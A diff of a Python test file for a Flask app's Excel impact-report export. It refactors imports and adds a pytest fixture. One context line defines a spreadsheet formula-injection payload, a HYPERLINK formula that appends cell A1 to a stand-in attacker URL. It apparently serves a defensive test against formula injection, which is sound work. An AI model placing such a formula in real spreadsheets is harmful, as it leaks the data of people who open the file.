@@ -6,13 +6,20 @@ from __future__ import annotations
 import io
 
 import openpyxl
+import pytest
 from flask.testing import FlaskClient
 from sqlalchemy.orm import Session
 
-from tests.test_sponsorship import YEAR, Csr, csr  # noqa: F401  (the fixture)
-from tests.test_stats_sql import seed
+from tests.conftest import Auth
+from tests.stats_world import seed
+from tests.worlds import YEAR, Csr
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+
+@pytest.fixture
+def csr(auth: Auth) -> Csr:
+    return Csr(auth)
 
 
 def workbook(response: object) -> openpyxl.Workbook:
@@ -23,7 +30,7 @@ def workbook(response: object) -> openpyxl.Workbook:
 
 def test_the_impact_report_as_a_workbook(
     client: FlaskClient,
-    csr: Csr,  # noqa: F811
+    csr: Csr,
     db_session: Session,
 ) -> None:
     formula = '=HYPERLINK("http://attacker.example/?x="&A1,"klik")'
